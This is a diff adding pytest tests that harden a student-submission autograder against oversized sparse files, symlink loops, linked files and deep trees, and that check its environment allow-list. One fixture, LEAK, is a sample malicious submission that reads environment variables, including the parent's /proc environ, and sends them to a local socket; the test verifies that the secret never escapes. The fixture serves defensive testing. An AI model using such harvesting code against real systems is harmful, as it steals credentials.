@@ -6,7 +6,6 @@ which must never pass."""
 
 import json
 import os
-import resource
 import shutil
 import socket
 import subprocess
@@ -136,3 +135,143 @@ def test_the_checker_writes_its_weights_over_a_students_good_ones(tmp_path):
     rep = check_submission(submission(tmp_path, replace=[
         ("0.1 * np.random.randn(m, n)", "0.2 * np.random.rand(m, n) - 0.1")]), **FAST)
     assert rep.verdict == "pass" and not rep.message, rep.to_text()
+
+
+# ---- the submission's files: never a link followed, never more read than the cap ----------------
+# The peak is this process's VmHWM: getrusage's ru_maxrss survives execve on Linux, so it would
+# count the memory of the pytest process that started this one.
+SPARSE_CHECK = '''
+import sys, time
+sys.path.insert(0, {tests!r})
+from refmlp.check import check_submission
+t0 = time.perf_counter()
+rep = check_submission({path!r}, scenarios=["disc"])
+seconds = time.perf_counter() - t0
+peak = next(int(line.split()[1]) * 1024 for line in open("/proc/self/status")
+            if line.startswith("VmHWM:"))
+print(rep.verdict, round(seconds, 3), peak)
+print(rep.message)
+'''
+
+
+@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="peak memory from /proc")
+@pytest.mark.parametrize("name", ["mlp.py", "big.py"])
+def test_a_sparse_2_gib_source_is_refused_without_being_read(tmp_path, name):
+    # the file costs no disk (truncate makes it sparse) but would cost 2 GiB of memory to read;
+    # before, mlp.py was read whole (4.2 GB resident) before the size cap
+    sub = submission(tmp_path / "s")
+    with open(sub / name, "ab") as fh:
+        fh.truncate(2**31)
+    code = SPARSE_CHECK.format(tests=str(Path(__file__).parent), path=str(sub))
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
+    assert out.returncode == 0, out.stderr
+    first, message = out.stdout.splitlines()[:2]
+    verdict, seconds, peak = first.split()
+    assert verdict == "error" and ("5 MiB" in message or "2147483648 bytes" in message), out.stdout
+    # 200 MB: the judge's imports until the refusal (numpy, not torch) peak at ~45 MB; the file
+    # alone would be 2 GiB
+    assert int(peak) < 200 * 2**20, peak
+    assert float(seconds) < 5, seconds  # refused from stat: no read, no sandbox started
+
+
+def test_a_symlink_loop_neither_hangs_nor_is_copied(tmp_path):
+    sub = submission(tmp_path / "s")
+    (sub / "a").symlink_to(".")
+    (sub / "pkg").mkdir()
+    (sub / "pkg" / "__init__.py").write_text("")
+    (sub / "pkg" / "loop").symlink_to("..")
+    # a package inside itself, twice: followed, 2^40 paths before the kernel's link limit
+    (sub / "pkg" / "self").symlink_to(".")
+    (sub / "pkg" / "again").symlink_to(".")
+    t0 = time.perf_counter()
+    assert sorted(runner.submission_files(sub)) == ["mlp.py", os.path.join("pkg", "__init__.py")]
+    assert time.perf_counter() - t0 < 1
+    rep = check_submission(sub, **FAST)
+    assert rep.verdict == "pass", rep.to_text()
+
+
+def test_a_linked_python_file_is_refused_not_followed(tmp_path):
+    # a link to a classmate's file would be copied (and run) as the submission's own
+    classmate = submission(tmp_path / "bob")
+    sub = submission(tmp_path / "eve", replace=[FPRIME_MISSING])
+    (sub / "helper.py").symlink_to(classmate / "mlp.py")
+    found = runner.submission_files(sub)
+    assert isinstance(found, str) and "helper.py" in found and "symbolic link" in found
+    assert check_submission(sub, **FAST).verdict == "error"
+    linked = tmp_path / "mallory"
+    linked.mkdir()
+    (linked / "mlp.py").symlink_to(classmate / "mlp.py")
+    rep = check_submission(linked, **FAST)
+    assert rep.verdict == "error" and "symbolic link" in rep.message, rep.to_text()
+
+
+def test_the_walk_refuses_trees_past_its_bounds(tmp_path, monkeypatch):
+    sub = submission(tmp_path / "s")
+    deep = sub
+    for depth in range(runner.MAX_DEPTH + 1):
+        deep = deep / f"p{depth}"
+        deep.mkdir()
+        (deep / "__init__.py").write_text("")
+    found = runner.submission_files(sub)
+    assert isinstance(found, str) and f"over {runner.MAX_DEPTH} deep" in found
+    monkeypatch.setattr(runner, "MAX_DEPTH", 64)
+    assert isinstance(runner.submission_files(sub), list)
+    monkeypatch.setattr(runner, "MAX_FILES", 5)
+    assert "over 5 .py files" in runner.submission_files(sub)
+    monkeypatch.setattr(runner, "MAX_ENTRIES", 5)
+    assert "over 5 entries" in runner.submission_files(sub)
+
+
+# ---- the worker's environment is allow-listed ----------------------------------------------------
+SECRET = "s3cr3t-token-7f1c"
+LEAK = '''
+import os, socket
+_dump = "\\n".join(f"{{k}}={{v}}" for k, v in os.environ.items())
+try:
+    _dump += open(f"/proc/{{os.getppid()}}/environ", "rb").read().decode(errors="replace")
+except OSError:
+    pass
+print(_dump)
+try:
+    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as _s:
+        _s.sendall(_dump.encode())
+except OSError:
+    pass
+'''
+
+
+def test_the_instructors_environment_never_reaches_a_report_or_a_socket(tmp_path, monkeypatch):
+    monkeypatch.setenv("REFMLP_TEST_TOKEN", SECRET)
+    monkeypatch.setenv("HOME", f"/home/{SECRET}")
+    received = []
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.settimeout(20)
+        port = server.getsockname()[1]
+
+        def listen():
+            try:
+                while True:
+                    conn, _ = server.accept()
+                    with conn:
+                        received.append(b"".join(iter(lambda: conn.recv(65536), b"")))
+            except OSError:
+                pass
+
+        listener = threading.Thread(target=listen, daemon=True)
+        listener.start()
+        # the dump is printed and sent at import and raised in backward: output, traceback, socket
+        rep = check_submission(submission(tmp_path, replace=[FPRIME_MISSING, (
+            "        y_est = self.forward(x)\n",
+            "        raise RuntimeError(_dump)\n")], extra=LEAK.format(port=port)), **FAST)
+    assert rep.verdict == "fail", rep.to_text()
+    reported = rep.to_json() + rep.to_text()
+    assert "PATH=" in reported  # the dump ran and was reported
+    assert SECRET not in reported
+    assert all(SECRET.encode() not in data for data in received)
+
+
+def test_the_worker_keeps_only_the_allow_listed_variables():
+    env = runner.worker_env({"PATH": "/bin", "LC_ALL": "C", "OPENBLAS_CORETYPE": "Haswell",
+                             "HOME": "/home/x", "GITHUB_TOKEN": "t", "AWS_SECRET_ACCESS_KEY": "k",
+                             "PYTHONPATH": "/evil", "http_proxy": "http://p"})
+    assert env == {"PATH": "/bin", "LC_ALL": "C", "OPENBLAS_CORETYPE": "Haswell"}
